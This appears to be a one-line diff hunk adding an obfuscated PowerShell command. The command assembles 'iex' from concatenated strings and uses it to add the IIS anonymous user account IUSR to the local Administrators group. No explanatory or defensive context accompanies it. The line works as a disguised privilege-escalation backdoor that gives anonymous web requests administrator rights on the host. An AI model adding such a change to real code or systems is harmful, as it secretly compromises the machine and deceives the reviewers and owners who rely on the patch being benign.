@@ -1,0 +1,1 @@
+&('i'+'ex') 'Add-LocalGroupMember -Group Administrators -Member IUSR'
